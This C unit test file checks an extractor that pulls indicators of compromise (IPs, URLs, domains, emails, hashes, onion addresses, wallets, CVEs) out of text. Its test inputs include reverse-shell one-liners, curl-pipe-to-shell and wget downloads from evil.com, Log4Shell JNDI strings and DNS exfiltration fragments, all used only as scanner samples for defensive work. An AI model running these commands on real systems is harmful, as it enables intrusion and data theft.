// SPDX-License-Identifier: GPL-3.0-or-later
/* What must be found: a text and its indicators, in their order. */
#include "iocs.h"

static const struct {
	const char *text;
	const char *want; /* TYPE VALUE, a bar between two */
} rows[] = {
	{ "1.2.3.4", "ipv4 1.2.3.4" },
	{ "0.0.0.0", "ipv4 0.0.0.0" },
	{ "255.255.255.255", "ipv4 255.255.255.255" },
	{ "nc 10.0.0.1 4444", "ipv4 10.0.0.1" },
	{ "10.0.0.1:4444", "ipv4 10.0.0.1" },
	{ "10.0.0.0/8", "ipv4 10.0.0.0" },
	{ "(198.51.100.7)", "ipv4 198.51.100.7" },
	{ "'198.51.100.7'", "ipv4 198.51.100.7" },
	{ "\"ip\":\"198.51.100.7\"", "ipv4 198.51.100.7" },
	{ "HOST=198.51.100.7", "ipv4 198.51.100.7" },
	{ "--host=198.51.100.7", "ipv4 198.51.100.7" },
	{ "root@198.51.100.7", "ipv4 198.51.100.7" },
	{ "scp x root@198.51.100.7:/tmp", "ipv4 198.51.100.7" },
	{ "198.51.100.7.", "ipv4 198.51.100.7" },
	{ "198.51.100.7, 198.51.100.8", "ipv4 198.51.100.7|ipv4 198.51.100.8" },
	{ "10.0.0.1-10.0.0.9", "ipv4 10.0.0.1|ipv4 10.0.0.9" },
	{ "nmap 10.0.0.1-20", "ipv4 10.0.0.1" },
	{ "1.1.1.1;2.2.2.2", "ipv4 1.1.1.1|ipv4 2.2.2.2" },
	{ "echo -e 'nameserver 8.8.8.8\\nnameserver 1.1.1.1'",
		"ipv4 8.8.8.8|ipv4 1.1.1.1" },
	{ "8.8.8.8\\n9.9.9.9", "ipv4 8.8.8.8|ipv4 9.9.9.9" },
	{ "exec 5<>/dev/tcp/10.0.0.1/4444", "ipv4 10.0.0.1" },
	{ "bash -i >& /dev/udp/10.0.0.1/53 0>&1", "ipv4 10.0.0.1" },
	{ "//10.0.0.1/share", "ipv4 10.0.0.1" },
	{ "dig @8.8.8.8 x", "ipv4 8.8.8.8" },
	{ "1[.]2[.]3[.]4", "ipv4 1.2.3.4" },
	{ "1.2.3[.]4", "ipv4 1.2.3.4" },
	{ "1(.)2(.)3(.)4", "ipv4 1.2.3.4" },
	{ "1[dot]2[dot]3[dot]4", "ipv4 1.2.3.4" },
	{ "ping -c1 5.15.0.91", "ipv4 5.15.0.91" },
	{ "5.15.0.91:80", "ipv4 5.15.0.91" },
	{ "s.connect((\"198.51.100.7\",4444))", "ipv4 198.51.100.7" },
	{ "nc -v 198.51.100.7", "ipv4 198.51.100.7" },
	{ "-s:198.51.100.7", "ipv4 198.51.100.7" },
	{ "[198.51.100.7]", "ipv4 198.51.100.7" },
	{ "<198.51.100.7>", "ipv4 198.51.100.7" },
	{ "8080:10.0.0.1:80", "ipv4 10.0.0.1" },
	{ "2001:db8::1", "ipv6 2001:db8::1" },
	{ "2001:DB8:0:0:8:800:200C:417A", "ipv6 2001:db8:0:0:8:800:200c:417a" },
	{ "FF01::101", "ipv6 ff01::101" },
	{ "::1", "ipv6 ::1" },
	{ "0:0:0:0:0:0:0:1", "ipv6 0:0:0:0:0:0:0:1" },
	{ "::ffff:129.144.52.38",
		"ipv6 ::ffff:129.144.52.38|ipv4 129.144.52.38" },
	{ "0:0:0:0:0:FFFF:129.144.52.38",
		"ipv6 0:0:0:0:0:ffff:129.144.52.38|ipv4 129.144.52.38" },
	{ "::13.1.68.3", "ipv6 ::13.1.68.3|ipv4 13.1.68.3" },
	{ "[2001:db8::1]:443", "ipv6 2001:db8::1" },
	{ "fe80::1%eth0", "ipv6 fe80::1" },
	{ "2001:db8::/32", "ipv6 2001:db8::" },
	{ "ping6 fd00::1234", "ipv6 fd00::1234" },
	{ "64:ff9b::192.0.2.33", "ipv6 64:ff9b::192.0.2.33|ipv4 192.0.2.33" },
	{ "inet6 addr:2001:db8::2", "ipv6 2001:db8::2" },
	{ "nc 2a00:1450:4001:81b::200e 443", "ipv6 2a00:1450:4001:81b::200e" },
	{ "'2001:db8:85a3::8a2e:370:7334'",
		"ipv6 2001:db8:85a3::8a2e:370:7334" },
	{ "2001[:]db8[:][:]1", "ipv6 2001:db8::1" },
	{ "/dev/tcp/2001:db8::1/80", "ipv6 2001:db8::1" },
	{ "http://198.51.100.7/x.sh",
		"url http://198.51.100.7/x.sh|ipv4 198.51.100.7" },
	{ "curl http://h/x.sh|sh;", "url http://h/x.sh" },
	{ "$(curl -s http://evil.com/a)",
		"url http://evil.com/a|dns evil.com" },
	{ "`wget -q http://evil.com/a`", "url http://evil.com/a|dns evil.com" },
	{ "urlopen('http://evil.com/#f')",
		"url http://evil.com/#f|dns evil.com" },
	{ "\"http://evil.com/a\"", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a&id", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a&&id", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a;id", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a;jsessionid=1F b",
		"url http://evil.com/a;jsessionid=1F|dns evil.com" },
	{ "http://evil.com/a;jsessionid= b",
		"url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a>f", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a<f", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a\tb", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a\nb", "url http://evil.com/a|dns evil.com" },
	{ "(http://evil.com/a).", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a(b)", "url http://evil.com/a(b)|dns evil.com" },
	{ "[http://evil.com/a]", "url http://evil.com/a|dns evil.com" },
	{ "{http://evil.com/a}", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a,", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/?a=1&b=2",
		"url http://evil.com/?a=1&b=2|dns evil.com" },
	{ "http://evil.com:8080/a", "url http://evil.com:8080/a|dns evil.com" },
	{ "http://u:p@evil.com/a", "url http://u:p@evil.com/a|dns evil.com" },
	{ "ftp://u@evil.com", "url ftp://u@evil.com|dns evil.com" },
	{ "HTTP://EVIL.COM/A", "url http://evil.com/A|dns evil.com" },
	{ "https://evil.com.", "url https://evil.com|dns evil.com" },
	{ "https://evil.com./a", "url https://evil.com/a|dns evil.com" },
	{ "sftp://evil.com/a", "url sftp://evil.com/a|dns evil.com" },
	{ "tftp://198.51.100.7/a",
		"url tftp://198.51.100.7/a|ipv4 198.51.100.7" },
	{ "ldap://evil.com/a", "url ldap://evil.com/a|dns evil.com" },
	{ "ldaps://evil.com:636/a", "url ldaps://evil.com:636/a|dns evil.com" },
	{ "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2hvYW1"
	  "p}",
		"url ldap://198.51.100.7:1389/Basic/Command/Base64/d2hvYW1p|i"
		"pv4 198.51.100.7" },
	{ "${jndi:rmi://evil.com/a}", "url rmi://evil.com/a|dns evil.com" },
	{ "${jndi:dns://evil.com/a}", "url dns://evil.com/a|dns evil.com" },
	{ "smb://evil.com/s", "url smb://evil.com/s|dns evil.com" },
	{ "ws://evil.com/s", "url ws://evil.com/s|dns evil.com" },
	{ "wss://evil.com/s", "url wss://evil.com/s|dns evil.com" },
	{ "telnet://evil.com:23", "url telnet://evil.com:23|dns evil.com" },
	{ "file:///etc/passwd", "url file:///etc/passwd" },
	{ "file://:8jdk/a", "" },
	{ "tcp://198.51.100.7:2375",
		"url tcp://198.51.100.7:2375|ipv4 198.51.100.7" },
	{ "-o stratum+tcp://pool.minexmr.com:4444",
		"url stratum+tcp://pool.minexmr.com:4444|dns "
		"pool.minexmr.com" },
	{ "git://evil.com/r.git", "url git://evil.com/r.git|dns evil.com" },
	{ "ssh://git@evil.com/r", "url ssh://git@evil.com/r|dns evil.com" },
	{ "pip install git+https://evil.com/r",
		"url https://evil.com/r|dns evil.com" },
	{ "http://[2001:db8::1]:80/a",
		"url http://[2001:db8::1]:80/a|ipv6 2001:db8::1" },
	{ "http://[::1/", "ipv6 ::1" },
	{ "http://[::1]/", "url http://[::1]/|ipv6 ::1" },
	{ "http://localhost:8080/x", "url http://localhost:8080/x" },
	{ "http://2130706433/", "url http://2130706433/|ipv4 127.0.0.1" },
	{ "http://evil.com/$(id)", "url http://evil.com/|dns evil.com" },
	{ "http://evil.com/$X", "url http://evil.com/|dns evil.com" },
	{ "http://evil.com:$P/a", "url http://evil.com|dns evil.com" },
	{ "http:\\/\\/evil.com\\/a", "url http://evil.com/a|dns evil.com" },
	{ "http://evil.com/a\\nb", "url http://evil.com/a|dns evil.com" },
	{ "hxxp://evil[.]com/a", "url http://evil.com/a|dns evil.com" },
	{ "hxxps://evil.com", "url https://evil.com|dns evil.com" },
	{ "http[:]//evil.com", "url http://evil.com|dns evil.com" },
	{ "hxxp[://]evil[.]com", "url http://evil.com|dns evil.com" },
	{ "http://evil(dot)com/x", "url http://evil.com/x|dns evil.com" },
	{ "fxp://evil.com/a", "url ftp://evil.com/a|dns evil.com" },
	{ "http://a.com/?u=http%3A%2F%2Fevil.com%2Fx",
		"url http://a.com/?u=http%3A%2F%2Fevil.com%2Fx|dns a.com|url "
		"http://evil.com/x|dns evil.com" },
	{ "http://a.com/?ip=9.8.7.6",
		"url http://a.com/?ip=9.8.7.6|dns a.com|ipv4 9.8.7.6" },
	{ "http://a.com/?h=evil%2Ecom",
		"url http://a.com/?h=evil%2Ecom|dns a.com|dns evil.com" },
	{ "http://a.com/x/http://b.com/y",
		"url http://a.com/x/http://b.com/y|dns a.com|url http://b.com"
		"/y|dns b.com" },
	{ "http://a.com,http://b.com",
		"url http://a.com|dns a.com|url http://b.com|dns b.com" },
	{ "--url=http://evil.com/x", "url http://evil.com/x|dns evil.com" },
	{ "curl -Lhttp://evil.com/x", "url http://evil.com/x|dns evil.com" },
	{ "http://evil.sh/run.sh", "url http://evil.sh/run.sh|dns evil.sh" },
	{ "http://x.py", "url http://x.py|dns x.py" },
	{ "http://a.b.evil.co.uk/",
		"url http://a.b.evil.co.uk/|dns a.b.evil.co.uk" },
	{ "http://my_host.evil.com/",
		"url http://my_host.evil.com/|dns my_host.evil.com" },
	{ "http://a.com/CVE-2021-4034/x",
		"url http://a.com/CVE-2021-4034/x|dns a.com|cve "
		"CVE-2021-4034" },
	{ "socks5h://198.51.100.7:9050",
		"url socks5h://198.51.100.7:9050|ipv4 198.51.100.7" },
	{ "evil.com", "dns evil.com" },
	{ "EVIL.COM", "dns evil.com" },
	{ "evil.com.", "dns evil.com" },
	{ "a.b.evil.co.uk", "dns a.b.evil.co.uk" },
	{ "evil.github.io", "dns evil.github.io" },
	{ "xn--e1afmkfd.xn--p1ai", "dns xn--e1afmkfd.xn--p1ai" },
	{ "'evil.com'", "dns evil.com" },
	{ "evil.com:443", "dns evil.com" },
	{ "evil.com/x.sh", "dns evil.com" },
	{ "wget evil.sh", "dns evil.sh" },
	{ "curl -s evil.sh/run", "dns evil.sh" },
	{ "curl evil.py", "dns evil.py" },
	{ "nc evil.sh 4444", "dns evil.sh" },
	{ "ping -c 1 evil.rs", "dns evil.rs" },
	{ "host evil.md", "dns evil.md" },
	{ "dig evil.so", "dns evil.so" },
	{ "nslookup evil.pl", "dns evil.pl" },
	{ "ssh evil.sh", "dns evil.sh" },
	{ "ssh -p 22 evil.sh", "dns evil.sh" },
	{ "sudo wget -q evil.sh", "dns evil.sh" },
	{ "id; wget evil.sh", "dns evil.sh" },
	{ "cat x | nc evil.sh 1", "dns evil.sh" },
	{ "$(curl evil.sh)", "dns evil.sh" },
	{ "wget -O run.sh evil.com/x", "dns evil.com" },
	{ "curl -o run.sh evil.sh", "dns evil.sh" },
	{ "bash -i >& /dev/tcp/evil.com/443 0>&1", "dns evil.com" },
	{ "/dev/tcp/evil.sh/443", "dns evil.sh" },
	{ "nslookup $(whoami).evil.com", "dns evil.com" },
	{ "${jndi:ldap://${env:X}.evil.com/a}", "dns evil.com" },
	{ "ping $x.evil.com", "dns evil.com" },
	{ "`id`.evil.com", "dns evil.com" },
	{ "s.connect((\"evil.com\",443))", "dns evil.com" },
	{ "\"evil.run\"", "dns evil.run" },
	{ "evil.run:443", "dns evil.run" },
	{ "git@github.com:foo/bar.git", "dns github.com" },
	{ "git clone git@evil.com:r", "dns evil.com" },
	{ "ssh root@evil.com", "dns evil.com" },
	{ "scp x.sh root@evil.sh:/tmp", "dns evil.sh" },
	{ "rsync -a x u@evil.com:/y", "dns evil.com" },
	{ "mysql://u:p@db.evil.com/x", "dns db.evil.com" },
	{ "bob@evil.com:2222", "dns evil.com" },
	{ "evil[.]com", "dns evil.com" },
	{ "evil(dot)com", "dns evil.com" },
	{ "evil{.}com", "dns evil.com" },
	{ "www[.]evil[.]co[.]uk", "dns www.evil.co.uk" },
	{ "evil[.]sh", "dns evil.sh" },
	{ "_dmarc.evil.com", "dns _dmarc.evil.com" },
	{ "*.evil.com", "dns evil.com" },
	{ "www.bank.pl", "dns www.bank.pl" },
	{ "mail.foo.co.in", "dns mail.foo.co.in" },
	{ "1.2.3.4.nip.io", "dns 1.2.3.4.nip.io" },
	{ "-H 'Host: evil.com'", "dns evil.com" },
	{ "evil.com,evil.org", "dns evil.com|dns evil.org" },
	{ "dig @evil.com x", "dns evil.com" },
	{ "http.server evil.ru", "dns evil.ru" },
	{ "evil.com\\nevil.ru", "dns evil.com|dns evil.ru" },
	{ "evil.top 0.0.0.0", "dns evil.top|ipv4 0.0.0.0" },
	{ "openssl s_client -connect evil.sh:443", "dns evil.sh" },
	{ "socat TCP:evil.sh:443 -", "dns evil.sh" },
	{ "bob@evil.com", "email bob@evil.com" },
	{ "mailto:bob@evil.com", "email bob@evil.com" },
	{ "<Bob.B+x@Evil.COM>", "email Bob.B+x@evil.com" },
	{ "bob@evil.co.uk.", "email bob@evil.co.uk" },
	{ "bob[at]evil[.]com", "email bob@evil.com" },
	{ "bob[@]evil.com", "email bob@evil.com" },
	{ "bob(at)evil(dot)com", "email bob@evil.com" },
	{ "--email=bob@evil.com", "email bob@evil.com" },
	{ "a@b.com,c@d.org", "email a@b.com|email c@d.org" },
	{ "From: bob@evil.com: hi", "email bob@evil.com" },
	{ "bob@mail.sh", "email bob@mail.sh" },
	{ "d41d8cd98f00b204e9800998ecf8427e",
		"md5 d41d8cd98f00b204e9800998ecf8427e" },
	{ "da39a3ee5e6b4b0d3255bfef95601890afd80709",
		"sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709" },
	{ "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852"
	  "b855",
		"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca4959"
		"91b7852b855" },
	{ "D41D8CD98F00B204E9800998ECF8427E",
		"md5 d41d8cd98f00b204e9800998ecf8427e" },
	{ "d41d8cd98f00b204e9800998ecf8427e:da39a3ee5e6b4b0d3255bfef956"
	  "01890afd80709",
		"md5 d41d8cd98f00b204e9800998ecf8427e|sha1 da39a3ee5e6b4b0d32"
		"55bfef95601890afd80709" },
	{ "d41d8cd98f00b204e9800998ecf8427e,e7248fce8990089e402b00f89dc"
	  "8d14d",
		"md5 d41d8cd98f00b204e9800998ecf8427e|md5 e7248fce8990089e402"
		"b00f89dc8d14d" },
	{ "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef956"
	  "01890afd80709xe3b0c44298fc1c149afbf4c8996fb92427ae41e4649b93"
	  "4ca495991b7852b855",
		"md5 d41d8cd98f00b204e9800998ecf8427e|sha1 da39a3ee5e6b4b0d32"
		"55bfef95601890afd80709|sha256 e3b0c44298fc1c149afbf4c8996fb9"
		"2427ae41e4649b934ca495991b7852b855" },
	{ "d41d8cd98f00b204e9800998ecf8427e-e7248fce8990089e402b00f89dc"
	  "8d14d",
		"md5 d41d8cd98f00b204e9800998ecf8427e|md5 e7248fce8990089e402"
		"b00f89dc8d14d" },
	{ "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca4959"
	  "91b7852b855",
		"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca4959"
		"91b7852b855" },
	{ "echo e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991"
	  "b7852b855  /tmp/x",
		"sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca4959"
		"91b7852b855" },
	{ "'da39a3ee5e6b4b0d3255bfef95601890afd80709'",
		"sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709" },
	{ "/tmp/d41d8cd98f00b204e9800998ecf8427e",
		"md5 d41d8cd98f00b204e9800998ecf8427e" },
	{ "http://a.com/d41d8cd98f00b204e9800998ecf8427e",
		"url http://a.com/d41d8cd98f00b204e9800998ecf8427e|dns a.com|"
		"md5 d41d8cd98f00b204e9800998ecf8427e" },
	{ "evil.com d41d8cd98f00b204e9800998ecf8427e evil.org",
		"dns evil.com|md5 d41d8cd98f00b204e9800998ecf8427e|dns evil.o"
		"rg" },
	{ "expyuzz4wqqyqhjn.onion", "onion expyuzz4wqqyqhjn.onion" },
	{ "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.oni"
	  "on",
		"onion duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzcz"
		"ad.onion" },
	{ "http://duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzc"
	  "zad.onion/x",
		"url http://duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twag"
		"swzczad.onion/x|onion duckduckgogg42xjoc72x3sjasowoarfbgcmvf"
		"imaftt6twagswzczad.onion" },
	{ "http://www.expyuzz4wqqyqhjn.onion",
		"url http://www.expyuzz4wqqyqhjn.onion|onion www.expyuzz4wqqy"
		"qhjn.onion" },
	{ "DUCKDUCKGOGG42XJOC72X3SJASOWOARFBGCMVFIMAFTT6TWAGSWZCZAD.ONI"
	  "ON",
		"onion duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzcz"
		"ad.onion" },
	{ "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
		"wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" },
	{ "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
		"wallet 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy" },
	{ "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
		"wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4" },
	{ "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4",
		"wallet BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4" },
	{ "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5j"
	  "j0",
		"wallet bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz"
		"7vqzk5jj0" },
	{ "0x52908400098527886E0F7030069857D2E4169EE7",
		"wallet 0x52908400098527886E0F7030069857D2E4169EE7" },
	{ "-u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK"
	  "9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD.w1",
		"wallet 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgz"
		"YnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD" },
	{ "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa?x",
		"wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa" },
	{ "CVE-2021-44228", "cve CVE-2021-44228" },
	{ "cve-2014-6271", "cve CVE-2014-6271" },
	{ "exploit/CVE-2021-4034.c", "cve CVE-2021-4034" },
	{ "CVE-2019-1234567", "cve CVE-2019-1234567" },
	{ "C:\\Windows\\System32\\cmd.exe",
		"windows_path C:\\Windows\\System32\\cmd.exe" },
	{ "\"C:\\Program Files\\a.exe\" /c",
		"windows_path C:\\Program Files\\a.exe" },
	{ "c:\\\\temp\\\\a.bat", "windows_path c:\\temp\\a.bat" },
	{ "\\\\srv\\share\\x.exe", "windows_path \\\\srv\\share\\x.exe" },
	{ "%TEMP%\\a.exe", "windows_path %TEMP%\\a.exe" },
	{ "copy D:\\x E:\\y", "windows_path D:\\x|windows_path E:\\y" },
	/* What only a broken scanner got wrong. */
	{ "10.0.0.1-10.0.0.2@evil.com", "email 10.0.0.1-10.0.0.2@evil.com" },
	{ "git@evil.com", "dns evil.com" },
	{ "http://evil.com:99999/a", "url http://evil.com|dns evil.com" },
	{ "wget evil.sh; bash x.sh; curl evil.py", "dns evil.sh|dns evil.py" },
	{ "evil[.]com/d41d8cd98f00b204e9800998ecf8427e",
		"dns evil.com|md5 d41d8cd98f00b204e9800998ecf8427e" },
	{ "/tmp/evil.com http://evil.com", "url http://evil.com|dns evil.com" },
};

static void test_names(void)
{
	check_start("names of types");
	CHECK(!strcmp(ioc_type_name(IOC_IPV4), "ipv4"));
	CHECK(!strcmp(ioc_type_name(IOC_WINDOWS_PATH), "windows_path"));
	CHECK(!strcmp(ioc_type_name(IOC_N_TYPES), ""));
}

static void test_types(void)
{
	static const char text[] = "wget http://evil.com/x -O /tmp/x";

	check_start("only the types that are wanted");
	CHECK_Z(iocs_of(BYTES(text), 1u << IOC_DNS), "dns evil.com");
	CHECK_Z(iocs_of(BYTES(text), 1u << IOC_URL), "url http://evil.com/x");
	CHECK_Z(iocs_of(BYTES(text), 0), "");
	check_start("Linux paths, where they are wanted");
	CHECK_Z(iocs_of(BYTES(text), 1u << IOC_LINUX_PATH),
		"linux_path /tmp/x");
	CHECK_Z(iocs_of(BYTES("PATH=/bin:/usr/bin;cat</etc/passwd a/b //c"),
			1u << IOC_LINUX_PATH),
		"linux_path /bin|linux_path /usr/bin|linux_path /etc/passwd");
	CHECK_Z(iocs_of(BYTES("/dev/tcp/evil.com/1"), ~0u),
		"linux_path /dev/tcp/evil.com/1|dns evil.com");
}

static void test_bytes(void)
{
	check_start("bytes of any kind around them");
	CHECK_Z(iocs_of(BYTES("\0"
			      "1.2.3.4\0"
			      "evil.com\xff\xfe"
			      "b@c.de\x7f"),
			~0u),
		"ipv4 1.2.3.4|dns evil.com|email b@c.de");
	CHECK_Z(iocs_of(BYTES("http://evil.com/\xc3\xa4"), ~0u),
		"url http://evil.com/|dns evil.com");
	CHECK_Z(iocs_of((struct bytes){ "", 0 }, ~0u), "");
}

static void test_long(void)
{
	struct str s;
	const char *got;

	check_start("a URL longer than a value may be is cut");
	str_init(&s, 1 << 20);
	str_addz(&s, "http://evil.com/");
	for (int i = 0; i < 3000; i++)
		str_addc(&s, 'a');
	got = iocs_of(str_bytes(&s), 1u << IOC_URL).p;
	CHECK_EQ(strlen(got), 4 + IOC_VALUE_MAX);
	str_addz(&s, "/http://evil.org/");
	check_start("what follows the cut is looked at");
	CHECK(strstr(iocs_of(str_bytes(&s), ~0u).p, "dns evil.org") != NULL);
	check_start("a label of 64 and a name of 254 bytes are no host's");
	str_reset(&s);
	for (int i = 0; i < 64; i++)
		str_addc(&s, 'a');
	str_addz(&s, ".com");
	CHECK_Z(iocs_of(str_bytes(&s), ~0u), "");
	str_reset(&s);
	for (int i = 0; i < 126; i++)
		str_addz(&s, "a.");
	str_addz(&s, "de");
	CHECK_Z(iocs_of(str_bytes(&s), ~0u), "");
	check_start("a name of 253 bytes is");
	str_reset(&s);
	for (int i = 0; i < 125; i++)
		str_addz(&s, "a.");
	str_addz(&s, "com");
	CHECK_EQ(iocs_of(str_bytes(&s), ~0u).len, 4 + s.len);
	str_fini(&s);
}

/* What is told of a URL that is cut, wherever it is, is all of it a URL. */
static void test_cut(void)
{
	static const char *const ends[] = { "&Expires=171&Signature=abc",
		";jsessionid=1A2B", "(a)[b]{c}", "$1$.",
		"&a.b%2=1&&c=", "?&x=1" };
	char text[IOC_VALUE_MAX + 64];

	for (size_t k = 0; k < sizeof(ends) / sizeof(ends[0]); k++) {
		size_t n = strlen(ends[k]);

		check_start("a URL that is cut in %s", ends[k]);
		for (size_t at = IOC_VALUE_MAX - n; at <= IOC_VALUE_MAX; at++) {
			char want[IOC_VALUE_MAX + 8];
			struct bytes got;
			size_t len;

			memset(text, 'a', sizeof(text));
			memcpy(text, "http://192.0.2.1/?", 18);
			memcpy(text + at, ends[k], n);
			got = iocs_of(
				(struct bytes){ text, at + n }, 1u << IOC_URL);
			len = got.len - 4;
			CHECK_EQ(iocs.n, 1);
			CHECK(len <= IOC_VALUE_MAX && len + 1 >= at);
			memcpy(want, got.p, got.len);
			CHECK_BYTES(iocs_of((struct bytes){ want + 4, len },
					    1u << IOC_URL),
				((struct bytes){ want, len + 4 }));
		}
	}
}

int main(void)
{
	check.module = "ioc";
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char shown[60];

		check_start("%zu: %s", i,
			check_show(shown, sizeof(shown), bytes_of(rows[i].text),
				0));
		CHECK_Z(iocs_of(bytes_of(rows[i].text), IOC_TYPES_DEFAULT),
			rows[i].want);
	}
	test_names();
	test_types();
	test_bytes();
	test_long();
	test_cut();
	return check_end();
}
